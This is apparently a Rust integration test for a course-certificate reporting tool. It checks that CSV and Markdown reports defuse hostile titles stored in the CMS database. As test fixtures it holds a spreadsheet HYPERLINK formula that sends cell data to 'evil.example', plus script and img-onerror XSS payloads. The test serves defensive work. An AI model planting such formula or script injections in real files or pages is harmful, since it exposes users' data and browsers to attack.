//! Reports are safe to open: labels, titles and frozen values come from the
//! database, where anyone with CMS access can write them. A CSV report must
//! not carry a live spreadsheet formula, and a Markdown report must not
//! carry raw HTML.

#![allow(clippy::unwrap_used)]

use crate::common::*;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?d="&A2,"Open")"#;
const IMG: &str = "<img src=x onerror=alert(1)>";
const SCRIPT: &str = "-5 years <script>alert(1)</script>";
const FROZEN: &str = "@SUM(1+1) <script>alert(2)</script>";

#[tokio::test(flavor = "multi_thread")]
async fn csv_and_markdown_reports_neutralise_hostile_labels() {
    let env = TestEnv::with_certificates(12, 600).await;
    // Hostile live titles (the report's labels), live certificate titles
    // (targets) and frozen titles (current values).
    for (sql, value) in [
        (
            "UPDATE courses_program SET title = $1 \
             WHERE id = (SELECT min(id) FROM courses_program)",
            FORMULA,
        ),
        (
            "UPDATE courses_program SET title = $1 \
             WHERE id = (SELECT max(id) FROM courses_program)",
            IMG,
        ),
        ("UPDATE cms_certificatepage SET product_name = $1", SCRIPT),
        (
            "UPDATE wagtailcore_revision SET content = jsonb_set(content, '{product_name}', to_jsonb($1::text)) \
             WHERE id IN (SELECT certificate_page_revision_id FROM courses_programcertificate)",
            FROZEN,
        ),
    ] {
        env.exec_with(sql, value).await;
    }
    let out = env.run(&job_args(
        "run --local",
        &job("program-certificate-titles"),
        "--all",
    ));
    assert_eq!(out.status.code(), Some(0));
    let run = summary(&out)["run"].clone();

    let csv_out = env.run(&["report", &run, "--format", "csv"]);
    assert_eq!(csv_out.status.code(), Some(0));
    let mut reader = csv::Reader::from_reader(csv_out.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(!rows.is_empty());
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula in CSV cell {cell:?}"
            );
        }
        // Counts stay numbers.
        for cell in row.iter().skip(6) {
            cell.parse::<u64>().unwrap();
        }
    }
    let labels: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert!(
        labels.contains(&format!("'{FORMULA}").as_str()),
        "{labels:?}"
    );
    assert!(labels.contains(&IMG), "{labels:?}");
    assert!(
        rows.iter().any(|r| r[4] == format!("'{SCRIPT}")),
        "the target title, quoted"
    );
    assert!(
        rows.iter()
            .any(|r| r[5].starts_with(&format!("'{FROZEN} ("))),
        "the frozen title, quoted"
    );

    let md = env.run(&["report", &run, "--format", "md"]);
    assert_eq!(md.status.code(), Some(0));
    let md = stdout(&md);
    let lower = md.to_lowercase();
    for raw in ["<script", "<img", "</script"] {
        assert!(!lower.contains(raw), "raw {raw} in\n{md}");
    }
    assert!(
        md.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "the label, as text\n{md}"
    );
    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
}
